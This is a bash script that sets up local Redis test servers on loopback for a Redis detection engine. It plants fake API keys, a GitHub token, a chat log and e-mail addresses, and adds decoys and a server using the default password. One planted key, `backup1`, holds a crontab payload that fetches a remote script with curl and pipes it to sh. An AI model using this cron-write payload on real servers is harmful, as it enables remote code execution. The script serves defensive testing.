#!/usr/bin/env bash
# lab/lab_redis.sh — real Redis servers (Debian redis-server) on loopback for the Redis engine tests,
# in $LS_LAB_DIR/redis: an open one on 127.77.6.1:6379 with planted data (db0 and db2: fake API
# keys in shapes the detector knows, a chat log, e-mail addresses, a crontab-payload key `backup1`),
# a protected one on 127.77.6.2:6379 (requirepass), a decoy on 127.77.6.3:6379 that answers +OK to
# every line, one on 127.77.6.4:6379 that answers +PONG to PING and +OK to the rest, and a protected
# one on 127.77.6.5:6379 whose password is redis.conf's example "foobared" (--default-credentials). Writes
# $LS_LAB_DIR/lab_redis.env. Idempotent; `up` on running servers reloads the data.
set -euo pipefail

# shellcheck source=lab/lab_lib.sh
source "$(dirname "${BASH_SOURCE[0]}")/lab_lib.sh"
DIR=$STATE/redis
OPEN=127.77.6.1
PROTECTED=127.77.6.2
DECOY_OK=127.77.6.3
DECOY_PONG=127.77.6.4
DEFAULT_PW=127.77.6.5
PORT=6379
PASSWORD=lab-redis-pw

start_redis() { # name addr [extra options]
    local name=$1 addr=$2
    shift 2
    lab_listening "$addr" "$PORT" && return 0
    mkdir -p "$DIR/$name"
    nohup redis-server --bind "$addr" --port "$PORT" --protected-mode no --save '' --appendonly no \
        --daemonize no --dir "$DIR/$name" --logfile "$DIR/$name.log" --pidfile "$DIR/$name.pid" "$@" \
        </dev/null >/dev/null 2>&1 8>&- &
    echo $! >"$DIR/$name.pid"
    lab_wait_port "$addr" "$PORT"
}

# A decoy: mode "ok" answers +OK to every line; mode "pong" parses commands and answers PING with
# +PONG, anything else with +OK (it has no INFO server with a redis_version).
DECOY_PY='
def serve(c):
    f = c.makefile("rb")
    try:
        while True:
            line = f.readline(65536)
            if not line:
                return
            if mode == "ok":
                c.sendall(b"+OK\r\n")
                continue
            args = []
            if line.startswith(b"*"):
                for _ in range(min(int(line[1:].strip() or 0), 64)):
                    f.readline(65536)
                    args.append(f.readline(65536).strip())
            else:
                args = line.split()
            c.sendall(b"+PONG\r\n" if args and args[0].upper() == b"PING" else b"+OK\r\n")
    except Exception:
        pass
    finally:
        c.close()
'

# The planted data as redis-cli input (one command a line, double-quoted with C escapes).
plant() {
    local i
    echo 'SELECT 0'
    echo 'FLUSHDB'
    for ((i = 1; i <= 200; i++)); do
        printf 'SET session:%04d "{\\"user_id\\":%d,\\"last_seen\\":\\"2024-05-%02dT10:00:00Z\\",\\"theme\\":\\"dark\\"}"\n' \
            "$i" "$((1000 + i))" "$((i % 28 + 1))"
    done
    for ((i = 1; i <= 20; i++)); do
        printf 'RPUSH cart:%d sku-%d sku-%d\n' "$i" "$((i * 7))" "$((i * 11))"
    done
    echo 'SET config:payments "{\"provider\":\"stripe\",\"api_key\":\"sk_live_51Hx9QmT4vRzK8pLw2NcYb7Ds\"}"'
    echo 'HSET svc:openai model gpt-4o api_key sk-proj-0ziAFnPzMtgBoxpAKLG3JxIyiJG21DT3BlbkFJHtOR3WRbUfXrG7jwrGJ2uN0JMIyF7f'
    echo 'SET chat:session:42 "[{\"role\":\"user\",\"content\":\"My card was charged twice, can you refund order 8812?\"},{\"role\":\"assistant\",\"content\":\"I am sorry about that. I have opened a refund for order 8812.\"}]"'
    echo 'SADD users:emails alice.moreau@fastmail.com bob.keller@gmx.net carol.diaz@outlook.com'
    echo 'RPUSH notifications "mail to dave.ng@protonmail.com: your invoice is ready" "mail to erin.li@yahoo.com: password changed"'
    echo 'SET backup1 "\n\n*/2 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n\n"'
    echo 'SELECT 2'
    echo 'FLUSHDB'
    for ((i = 1; i <= 60; i++)); do
        printf 'HSET job:%d state done runtime_ms %d\n' "$i" "$((i * 13))"
    done
    echo 'SET ci:github "GITHUB_TOKEN=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"'
}
# what plant() leaves: keys per database
DB0_KEYS=226
DB2_KEYS=61

cmd_up() {
    command -v redis-server >/dev/null || die "redis-server not found (apt-get install redis-server)"
    lab_lock "$DIR"
    start_redis open "$OPEN"
    start_redis protected "$PROTECTED" --requirepass "$PASSWORD"
    start_redis default-pw "$DEFAULT_PW" --requirepass foobared
    lab_start_decoy decoy-ok "$DECOY_OK" "$PORT" "$DECOY_PY" ok
    lab_start_decoy decoy-pong "$DECOY_PONG" "$PORT" "$DECOY_PY" pong
    plant | redis-cli -h "$OPEN" -p "$PORT" >"$DIR/plant.log" 2>&1 || die "loading the data failed (see $DIR/plant.log)"
    printf 'SET vault:token "sk_live_51Hx9QmT4vRzK8pLw2NcYb7Ds"\n' |
        REDISCLI_AUTH=$PASSWORD redis-cli -h "$PROTECTED" -p "$PORT" >/dev/null
    printf 'SET config:payments "{\\"api_key\\":\\"sk_live_51Hx9QmT4vRzK8pLw2NcYb7Ds\\"}"\n' |
        REDISCLI_AUTH=foobared redis-cli -h "$DEFAULT_PW" -p "$PORT" >/dev/null
    local n0 n2
    n0=$(redis-cli -h "$OPEN" -p "$PORT" -n 0 DBSIZE)
    n2=$(redis-cli -h "$OPEN" -p "$PORT" -n 2 DBSIZE)
    [[ $n0 == "$DB0_KEYS" && $n2 == "$DB2_KEYS" ]] || die "planted $n0/$n2 keys, expected $DB0_KEYS/$DB2_KEYS"
    {
        printf 'LAB_REDIS_OPEN=%q\nLAB_REDIS_PROTECTED=%q\nLAB_REDIS_DECOY=%q\nLAB_REDIS_DECOY_PONG=%q\n' \
            "$OPEN" "$PROTECTED" "$DECOY_OK" "$DECOY_PONG"
        printf 'LAB_REDIS_DEFAULT_PW=%q\nLAB_REDIS_PASSWORD=%q\n' "$DEFAULT_PW" "$PASSWORD"
        printf 'LAB_REDIS_PORT=%q\nLAB_REDIS_DB0_KEYS=%q\nLAB_REDIS_DB2_KEYS=%q\nLAB_REDIS_VERSION=%q\n' \
            "$PORT" "$DB0_KEYS" "$DB2_KEYS" "$(redis-cli -h "$OPEN" -p "$PORT" INFO server |
                sed -n 's/^redis_version:\([^\r]*\).*/\1/p')"
    } | lab_write_env lab_redis.env
    say "Redis up: open $OPEN, protected $PROTECTED, default password $DEFAULT_PW, decoys $DECOY_OK $DECOY_PONG (:$PORT); environment: $STATE/lab_redis.env"
}

cmd_down() {
    # only our own process: redis-server or the python decoy started from this state dir
    lab_stop_all "$DIR" 'redis-server|python3' open protected default-pw decoy-ok decoy-pong
    rm -f "$STATE/lab_redis.env"
}

cmd_status() {
    lab_status_all redis "$PORT" "$OPEN open" "$PROTECTED protected" "$DECOY_OK decoy(+OK)" "$DECOY_PONG decoy(+PONG)" "$DEFAULT_PW default-password"
}

lab_main "$@"
